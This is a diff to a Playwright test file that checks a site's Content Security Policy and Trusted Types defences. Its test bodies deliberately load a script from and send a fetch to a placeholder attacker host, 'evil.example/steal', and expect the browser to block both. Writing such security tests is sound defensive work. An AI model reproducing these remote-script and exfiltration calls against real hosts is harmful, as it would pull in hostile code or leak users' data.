@@ -1,7 +1,7 @@
 import { expect } from '@playwright/test'
 import { test } from './support/test.ts'
 
-test('the page comes with the headers of production', async ({ page }) => {
+test('the page has the response headers of production', async ({ page }) => {
   const response = await page.goto('/')
   const headers = response?.headers() ?? {}
   const policy = headers['content-security-policy'] ?? ''
@@ -12,33 +12,56 @@ test('the page comes with the headers of production', async ({ page }) => {
   expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
 })
 
-test('markup made of text is refused, and the watch of these journeys sees it', async ({
+test('the policy blocks markup from strings, and the journeys detect the violation', async ({
   page,
-  troubles,
+  pageErrors,
 }) => {
-  troubles.expect(/CSP: require-trusted-types-for/)
-  troubles.expect(/requires 'TrustedHTML' assignment/)
+  pageErrors.expect(/CSP: require-trusted-types-for/)
+  pageErrors.expect(/requires 'TrustedHTML' assignment/)
   await page.goto('/')
-  const refused = await page.evaluate(() => {
+  const error = await page.evaluate(() => {
     try {
-      document.body.insertAdjacentHTML('beforeend', '<b>made of text</b>')
+      document.body.insertAdjacentHTML('beforeend', '<b>from a string</b>')
       return ''
     } catch (error) {
       return String(error)
     }
   })
-  expect(refused).toContain('TypeError')
+  expect(error).toContain('TypeError')
 })
 
-test('a call to elsewhere is refused, and the watch sees that too', async ({ page, troubles }) => {
-  troubles.expect(/CSP: connect-src refused https:\/\/evil\.example/)
-  troubles.expect(/violates the (following|document's) Content Security Policy/)
+test('the landing page blocks scripts of other origins before the full site is loaded', async ({
+  page,
+}) => {
+  // The site's scripts run after `load`. Only the page's inline scripts have run by then.
+  await page.addInitScript(() => {
+    document.addEventListener('DOMContentLoaded', () => {
+      try {
+        document.createElement('script').src = 'https://evil.example/steal.js'
+      } catch (error) {
+        document.documentElement.dataset.refused = String(error)
+      }
+    })
+  })
   await page.goto('/')
-  const refused = await page.evaluate(() =>
+  await expect(page.locator('html')).toHaveAttribute(
+    'data-refused',
+    'TypeError: No script is loaded from https://evil.example/steal.js',
+  )
+})
+
+test('the policy blocks requests to other origins, and the journeys detect the violation', async ({
+  page,
+  pageErrors,
+}) => {
+  pageErrors.expect(/CSP: connect-src refused https:\/\/evil\.example/)
+  pageErrors.expect(/violates the (following|document's) Content Security Policy/)
+  await page.goto('/')
+  const error = await page.evaluate(() =>
     fetch('https://evil.example/steal').then(
       () => '',
       (error) => String(error),
     ),
   )
-  expect(refused).toContain('TypeError')
+  expect(error).toContain('TypeError')
 })
